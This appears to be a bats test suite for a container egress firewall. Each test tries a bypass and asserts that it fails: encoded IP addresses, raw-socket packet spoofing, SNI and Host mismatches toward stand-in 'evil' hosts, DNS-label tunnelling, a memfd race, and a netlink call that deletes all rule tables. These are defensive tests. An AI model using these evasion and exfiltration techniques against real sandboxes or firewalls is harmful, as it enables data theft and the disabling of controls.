#!/usr/bin/env bats
# Ways around the network's rules, each tried from inside: nothing arrives on the other side. That without us all
# of it does is shown by network_control.bats.
# shellcheck disable=SC2154,SC2016 # words of bats and the libraries; scripts that run elsewhere
bats_require_minimum_version 1.5.0
load lib/world
load lib/net
load lib/control

setup_file() {
    make_world
    make_net
}

teardown_file() {
    remove_all_containers || true
    end_net
    end_world
}

setup() {
    remember_what_is_there
    move_name "$moving4"
}

teardown() {
    remove_all_containers
    retry_until unplugged 2
    nothing_left_behind
    rm -f "$WORLD"/log/*
    forget_packets
}

# One destination by address and one by name are open; $other4 and $other6 are not.
usual_policy() {
    use_policy "$(to address "{ cidr: $allowed4, port: $sink }")" "$(to name '{ host: shared-good.example.test, ports: [80, 443] }')"
}

nothing_reached_others() { never_arrived "host $other4 or host $other6"; }

# ---- ways to write an address ------------------------------------------------------------------------------------

@test "attack: an IPv4 address inside an IPv6 one is the IPv4 address" {
    usual_policy
    start_box
    says ECONNREFUSED connect "::ffff:$other4" "$sink" secret
    says ECONNREFUSED connect ::ffff:c633:640b "$sink" secret
    says ok connect "::ffff:$allowed4" "$sink" hello
    tries udp "::ffff:$other4" "$sink" secret
    nothing_reached_others
    refused_on_trace "$(at "$other4" "$sink")"
    allowed_on_trace "$(at "$allowed4" "$sink")"
    remove_box
}

@test "attack: decimal, octal and hexadecimal addresses are addresses" {
    usual_policy
    start_box
    for way in 3325256715 0xc633640b 0xc6.0x33.0x64.0xb 0306.063.0144.013 198.51.25611; do
        says ECONNREFUSED connect "$way" "$sink" secret
        run ! inside curl -sS "http://$way/"
    done
    nothing_reached_others
    refused_on_trace "$(at "$other4" "$sink")"
    remove_box
}

# ---- sockets that others do not use -----------------------------------------------------------------------------

@test "attack: a mark on the socket is worth nothing" {
    usual_policy
    start_box CAP_NET_RAW
    for mark in 1 2 3 4 5 0xffffffff; do says ECONNREFUSED mark "$mark" "$other4" "$sink"; done
    nothing_reached_others
    remove_box
}

@test "attack: packets by hand through a raw socket do not leave" {
    usual_policy
    start_box CAP_NET_RAW
    tries raw-udp "$other4" "$sink" secret
    tries raw-pieces "$other4" "$sink" secret-in-two-pieces
    tries raw-syn "$other4" "$sink"
    tries raw-ip "$other4" 253 secret
    tries raw-ip "$other4" 47 secret
    tries raw-ip "$other4" 4 secret
    # In the name of a neighbour, and of the resolver: what refuses it must not tell them, with the packet in it.
    for from in "$gateway4" "$dns4"; do
        tries raw-udp "$other4" "$sink" secret "$from"
        tries raw-syn "$other4" "$sink" "$from"
    done
    nothing_reached_others
    run ! text_arrived secret
    never_arrived "src host $other4 or icmp or (tcp and (host $gateway4 or host $dns4))"
    refused_on_trace "$(at "$other4" "$sink") and .payload.protocol == \"udp\""
    refused_on_trace "$(at "$other4" "$sink") and .payload.protocol == \"tcp\""
    remove_box
}

@test "attack: frames past the network layer do not leave, whatever their mark, and are counted" {
    usual_policy
    start_box CAP_NET_RAW
    for way in plain direct marked; do tries packet "$way" eth0 "$other4" "$sink" secret; done
    tries packet plain eth0 "$allowed4" "$sink" secret
    nothing_reached_others
    run ! text_arrived secret
    # By the rules it works still.
    says ok connect "$allowed4" "$sink" hello
    remove_box
}

@test "attack: a tap inside does not see what would let its frames by" {
    usual_policy
    start_box CAP_NET_RAW
    run -0 inside /usr/bin/python3 -c '
import socket
tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
flow = socket.create_connection(("'"$allowed4"'", '"$sink"'))
flow.send(b"seen")
frame = next(f for f in iter(lambda: tap.recv(2000), b"") if b"seen" in f)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0x800))
again = frame.replace(b"seen", b"tell").replace(socket.inet_aton("'"$allowed4"'"), socket.inet_aton("'"$other4"'"))
try: raw.send(again)
except OSError: pass'
    run ! text_arrived tell
    nothing_reached_others
    remove_box
}

@test "attack: one call with many datagrams sends only those that are allowed" {
    use_policy "$(to address "{ cidr: $allowed4, port: $sink, protocol: udp }")"
    start_box
    tries sendmmsg many "$sink" "$allowed4" "$other4" "$allowed4" "$other4"
    tries sendmmsg many "$sink" "$other4" "$allowed4" "$other4"
    retry_until noted ".to == \"$allowed4\" and .text == \"many\""
    nothing_reached_others
    refused_on_trace "$(at "$other4" "$sink")"
    remove_box
}

@test "attack: data in the first packet of a connection does not leave" {
    usual_policy
    start_box
    refuses fastopen "$other4" "$sink" secret
    # Nor to the address of a name, before the name is told.
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
    tries fastopen "$shared4" 80 "$(printf 'GET /secret HTTP/1.1\r\nHost: shared-evil.example.test\r\n\r\n')"
    nothing_reached_others
    run ! text_arrived secret
    remove_box
}

@test "attack: SCTP by hand does not leave" {
    usual_policy
    start_box CAP_NET_RAW
    tries sctp "$other4" "$sink"
    tries sctp "$allowed4" 80
    never_arrived "sctp"
    refused_on_trace ".payload.dst_ip == \"$other4\" and .payload.protocol == \"sctp\""
    remove_box
}

@test "attack: ICMP carries nothing out" {
    usual_policy
    start_box CAP_NET_RAW
    tries ping "$other4" secret
    tries ping "$other6" secret
    tries ping "$allowed4" secret
    run ! text_arrived secret
    nothing_reached_others
    refused_on_trace ".payload.dst_ip == \"$other4\" and .payload.protocol == \"icmp\""
    remove_box
}

@test "attack: AF_VSOCK and AF_XDP can't be had" {
    usual_policy
    start_box CAP_NET_RAW
    run inside net vsock 2 1234
    [[ $output == no-socket-* ]]
    run inside net socket 44 3 0
    [ "$output" != ok ]
    remove_box
}

# ---- names that lie ----------------------------------------------------------------------------------------------

@test "attack: a resolver of one's own on loopback opens nothing" {
    usual_policy
    start_box
    for place in 127.0.0.1 127.0.0.53 "$box4"; do
        says ECONNREFUSED own-resolver shared-good.example.test "$other4" 80 "$place"
    done
    nothing_reached_others
    remove_box
}

@test "attack: an answer that the container has written in the resolver's name opens nothing" {
    usual_policy
    start_box CAP_NET_RAW
    says ECONNREFUSED spoof "$dns4" shared-good.example.test "$other4" 80
    says ECONNREFUSED connect "$other4" 443
    nothing_reached_others
    remove_box
}

@test "attack: a name that moves to an inner address takes no permission there" {
    use_policy "$(to name '{ host: moving.example.test, port: 80 }')" "$(to address "{ cidr: $allowed4, port: $sink }")"
    start_box
    run -0 inside curl -sSf http://moving.example.test/
    for place in "$metadata4" 127.0.0.1 "$gateway4"; do
        move_name "$place"
        run ! inside curl -sSf http://moving.example.test/
    done
    never_arrived "host $metadata4 or (host $gateway4 and port 80)"
    remove_box
}

@test "attack: data in the names below an allowed pattern is an anomaly" {
    use_policy "$(to wild '{ host: "**.wild.example.test", port: 443 }')"
    start_box
    run -0 inside curl -sSf https://any.wild.example.test/
    [ "$(trace_count "$(id_of box)" '.verdict.result == "anomaly"')" -eq 0 ]
    inside /bin/sh -c 'i=0; while [ $i -lt 200 ]; do
        label=$(dd if=/dev/urandom bs=30 count=1 2>/dev/null | od -An -tx1 | tr -d " \n")
        net dns '"$dns4"' 53 $label.wild.example.test TXT >/dev/null; i=$((i+1)); done' || true
    retry_until trace_has "$(id_of box)" "$is_dns and .verdict.result == \"anomaly\" and (.payload.name | endswith(\".wild.example.test\"))"
    remove_box
}

@test "attack: names that are no names, and queries that are none, are refused or get nowhere" {
    usual_policy
    start_box
    label=$(printf 'a%.0s' $(seq 63))
    run inside net dns "$dns4" 53 "$label.$label.$label.$label.shared-good.example.test" A
    [[ $output != NOERROR* ]]
    run ! text_arrived "$label"
    run inside net dns "$dns4" 53 "shared-good.example.test.evil.test" A
    [ "$output" = REFUSED ]
    run inside net dns "$dns4" 53 "" ANY
    [[ $output != NOERROR* ]]
    # By another kind of packet to the resolver.
    refuses udp "$dns4" 5353 secret
    says ECONNREFUSED connect "$dns4" 80
    tries udp "$dns4" 53 secret-that-is-no-query
    run ! text_arrived secret
    run ! name_arrived evil.test
    remove_box
}

# ---- one address, two names ----------------------------------------------------------------------------------------

# at_shared_address: the name that is allowed has been looked up.
at_shared_address() {
    usual_policy
    start_box CAP_NET_RAW
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
}

@test "attack: the SNI of one name to the address of another is refused" {
    at_shared_address
    says ok hello "$shared4" 443 shared-good.example.test 1
    says ok hello "$shared4" 443 SHARED-Good.Example.Test 1
    refuses hello "$shared4" 443 shared-evil.example.test 1
    refuses hello "$shared4" 443 evil.test 1
    run ! inside curl -sSf --resolve "shared-evil.example.test:443:$shared4" https://shared-evil.example.test/
    run ! served '.sni == "shared-evil.example.test"'
    run ! text_arrived shared-evil
    retry_until trace_has "$(id_of box)" "$is_egress and $was_refused and .payload.dst_host == \"shared-evil.example.test\" and .payload.dst_host_source == \"sni\""
    remove_box
}

@test "attack: a ClientHello without a name, or an encrypted one, is refused" {
    at_shared_address
    refuses hello "$shared4" 443 - 1
    refuses hello "$shared4" 443 shared-good.example.test 1 encrypted
    run ! inside curl -sSkf "https://$shared4/"
    run ! served '.port == 443'
    remove_box
}

@test "attack: a ClientHello in pieces is read as one" {
    at_shared_address
    for pieces in 2 3 9; do
        says ok hello "$shared4" 443 shared-good.example.test "$pieces"
        refuses hello "$shared4" 443 shared-evil.example.test "$pieces"
        refuses hello "$shared4" 443 - "$pieces"
    done
    remove_box
}

@test "attack: the Host of one name to the address of another is refused, also on a connection that is kept alive" {
    at_shared_address
    says 5 requests "$shared4" 80 shared-good.example.test 5
    says 0 requests "$shared4" 80 shared-evil.example.test 5
    run ! inside curl -sSf -H 'Host: shared-evil.example.test' "http://shared-good.example.test/"
    run ! inside curl -sSf "http://$shared4/"
    run ! served '.host == "shared-evil.example.test"'
    remove_box
}

# From the second connection to the address of a name on the kernel lets them begin by itself.
@test "attack: where connections begin without a question, data in the first packet and a port that is used again get no other name by" {
    at_shared_address
    says ok hello "$shared4" 443 shared-good.example.test 1
    says 1 requests "$shared4" 80 shared-good.example.test 1
    tries fastopen "$shared4" 80 "$(printf 'GET /secret HTTP/1.1\r\nHost: shared-evil.example.test\r\n\r\n')"
    run -0 inside /usr/bin/python3 -c "
import socket, struct
for port, name in [(port, name) for port in range(4300, 4320) for name in ('good', 'evil')]:
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))  # its end is a reset: the port is free
        s.bind(('', port))
        s.connect(('$shared4', 80))
        s.sendall(b'GET / HTTP/1.1\r\nHost: shared-%s.example.test\r\n\r\n' % name.encode())
        try: print(name, s.recv(100)[:15])
        except ConnectionResetError: print(name, 'reset')"
    [ "$(grep -c "^good b'HTTP/1.1 200 OK'" <<<"$output")" -eq 20 ]
    [ "$(grep -c '^evil reset' <<<"$output")" -eq 20 ]
    run ! served '.host == "shared-evil.example.test"'
    run ! text_arrived shared-evil
    run ! text_arrived secret
    retry_until eval '[ "$(trace_sum "$is_attempt and $was_refused and .payload.dst_host == \"shared-evil.example.test\"")" -ge 20 ]'
    remove_box
}

@test "attack: what is changed in memory after it was looked at does not leave" {
    at_shared_address
    run inside /usr/bin/python3 -c "
import os, socket, time
head = b'GET /secret HTTP/1.1\\r\\nHost: shared-good.example.test\\r\\n'
fd = os.memfd_create('head')
os.write(fd, head)
s = socket.create_connection(('$shared4', 80))
os.sendfile(s.fileno(), fd, 0, len(head))
time.sleep(0.1)  # it waits for the rest of it, and shares its page with us
os.pwrite(fd, head.replace(b'good', b'evil'), 0)
s.send(b'\\r\\n')
print(s.recv(100))"
    run ! served '.host == "shared-evil.example.test"'
    remove_box
}

# by_hand SCRIPT: with what makes a segment of IPv4, and an error about one.
by_hand() {
    run inside /usr/bin/python3 -c '
import socket, struct, sys, time
def summed(b):
    b += b"\0" * (len(b) % 2)
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16: n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
def segment(src, dst, seq, ack, flags, data):
    a, b = socket.inet_aton(src[0]), socket.inet_aton(dst[0])
    def tcp(s): return struct.pack("!HHIIBBHHH", src[1], dst[1], seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 1024, s, 0) + data
    t = tcp(summed(a + b + struct.pack("!BBH", 0, 6, len(tcp(0))) + tcp(0)))
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(t), 7, 0, 64, 6, 0, a, b) + t
def error_about(src, dst):
    q = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 7, 0, 64, 6, 0, socket.inet_aton(dst[0]), socket.inet_aton(src[0]))
    q = q[:10] + struct.pack("!H", summed(q)) + q[12:] + struct.pack("!HHI", dst[1], src[1], 0) + bytes(12)
    return struct.pack("!BBHI", 3, 3, summed(struct.pack("!BBHI", 3, 3, 0, 0) + q), 0) + q
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
'"$1"
}

@test "attack: a second beginning of a connection does not make its bytes count anew" {
    use_policy "$(to limited "{ cidr: $allowed4, port: $sink }" 'max_bytes_per_call: 10000')"
    start_box CAP_NET_RAW
    by_hand '
s = socket.create_connection(("'"$allowed4"'", '"$sink"'))
for i in range(10):
    s.sendall(b"x" * 5000)
    time.sleep(0.1)
    raw.sendto(segment(s.getsockname(), s.getpeername(), 1, 0, 2, b"y"), s.getpeername())
    time.sleep(0.1)'
    [ "$(bytes_arrived "tcp and src host $box4 and dst port $sink and tcp[tcpflags] & tcp-syn == 0" | sort -n | tail -n 1)" -le 10000 ]
    remove_box
}

@test "attack: an error about a connection that is yet to tell its name does not free it" {
    use_policy "$(to name '{ host: shared-good.example.test }')"
    start_box CAP_NET_RAW
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
    by_hand '
s = socket.create_connection(("'"$shared4"'", 80))
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
icmp.sendto(error_about(s.getsockname(), s.getpeername()), s.getpeername())
time.sleep(0.3)
s.sendall(b"GET / HTTP/1.1\r\nHost: shared-evil.example.test\r\n\r\n")
print(s.recv(100))'
    run ! served '.host == "shared-evil.example.test"'
    run ! text_arrived shared-evil
    remove_box
}

@test "attack: several queries in one datagram that is cut apart later do not leave" {
    at_shared_address
    run inside /usr/bin/python3 -c "
import socket, struct
def query(name): return struct.pack('!6H', 1, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0\\0\\1\\0\\1'
evil, good = query(b'hidden-query.test'), query(b'shared-good.example.test')
opt = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0'
room = len(good) + len(opt) + 6
one = good[:10] + b'\\0\\1' + good[12:] + opt + struct.pack('!HHH', 4 + len(evil), 12, len(evil))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(17, 103, len(one))
s.sendto(one + evil, ('$dns4', 53))"
    run ! text_arrived hidden-query
    remove_box
}

@test "a large first write to the address of a name arrives whole" {
    at_shared_address
    run -0 inside curl -sS -m 20 -H Expect: --data-binary "$(head -c 60000 /dev/zero | tr '\0' z)" http://shared-good.example.test/
    retry_until served '.host == "shared-good.example.test"'
    remove_box
}

@test "attack: something else than HTTP and TLS to the address of a name is refused" {
    at_shared_address
    refuses connect "$shared4" 443 'SSH-2.0-secret'
    refuses connect "$shared4" 80 'secret without a request'
    run ! text_arrived secret
    remove_box
}

# ---- much of it ----------------------------------------------------------------------------------------------------

@test "attack: requests that are kept alive beyond the byte limit do not leave" {
    use_policy "$(to limited '{ host: shared-good.example.test, port: 80 }' 'max_bytes_per_call: 10000')"
    start_box
    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
    run -0 inside net requests "$shared4" 80 shared-good.example.test 1000
    [ "$output" -gt 5 ]
    [ "$output" -lt 200 ]
    [ "$(bytes_arrived "tcp and src host $box4 and dst port 80" | sort -n | tail -n 1)" -le 10000 ]
    retry_until trace_has "$(id_of box)" "$is_egress and .verdict.result == \"anomaly\" and .verdict.policy_rule == \"limited\""
    remove_box
}

@test "attack: data behind the limit in one large write does not leave" {
    use_policy "$(to limited "{ cidr: $other4, port: $sink }" 'max_bytes_per_call: 10000')"
    start_box
    run ! inside /usr/bin/python3 -c "
import socket
s = socket.create_connection(('$other4', $sink))
s.sendall(b'x' * 1000000)
while s.recv(65536): pass"
    [ "$(bytes_arrived "tcp and src host $box4 and dst port $sink" | sort -n | tail -n 1)" -le 10000 ]
    remove_box
}

@test "attack: thousands of half-open connections leave room for what is allowed, and let nothing by" {
    use_policy "$(to address "{ cidr: $allowed4, port: $sink }, { cidr: $nobody4 }")"
    start_box
    run -0 inside sh -c "net halfopen $nobody4 80 4000 </dev/null"
    [ "$output" = 4000 ]
    mkfifo "$(work_of box)/hold"
    inside sh -c "net halfopen $nobody4 80 4000 </workspace/hold >/workspace/begun" 3>&- &
    exec 7>"$(work_of box)/hold"
    retry_until contains "$(work_of box)/begun" 4000
    says ok connect "$allowed4" "$sink" hello
    says ECONNREFUSED connect "$other4" "$sink" secret
    exec 7>&-
    wait
    run -0 inside sh -c "net halfopen $other4 80 4000 </dev/null"
    nothing_reached_others
    is_watched "$(id_of box)"
    says ok connect "$allowed4" "$sink" hello
    remove_box
}

# ---- the rules themselves ------------------------------------------------------------------------------------------

@test "attack: without CAP_NET_ADMIN neither rules nor interfaces can be changed, nor read" {
    usual_policy
    start_box CAP_NET_RAW
    run ! inside /usr/sbin/ip link set eth0 down
    run ! inside /usr/sbin/ip link set eth0 netns 1
    run ! inside /usr/sbin/ip link add dummy0 type dummy
    run ! inside /usr/bin/python3 -c '
import socket, struct, sys
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
def message(kind, flags, family=0, body=b""): return struct.pack("=IHHIIBBH", 20 + len(body), kind, flags, 1, 0, family, 0, 0) + body
# Begin, delete all tables of all families, end.
s.send(message(16, 1) [:18] + struct.pack(">H", 10) + message(0xa02, 5) + message(17, 1)[:18] + struct.pack(">H", 10))
answer = s.recv(65536)
error = struct.unpack_from("=i", answer, 16)[0]
sys.exit(error)'
    says ECONNREFUSED connect "$other4" "$sink" secret
    nothing_reached_others
    remove_box
}

@test "attack: a user namespace of its own gives no power over the container's network" {
    usual_policy
    start_box
    inside unshare -Ur /usr/sbin/ip link set eth0 down || true
    inside unshare -Urn net connect "$other4" "$sink" secret || true
    says ok connect "$allowed4" "$sink" hello
    says ECONNREFUSED connect "$other4" "$sink" secret
    nothing_reached_others
    remove_box
}

@test "attack: with CAP_NET_ADMIN, which could flush the rules and move the interface, no container is started" {
    usual_policy
    run start_box CAP_NET_ADMIN
    [ "$status" -ne 0 ]
    [[ $output == *CAP_NET_ADMIN* ]]
    runtime delete --force "$(id_of box)" || true
}
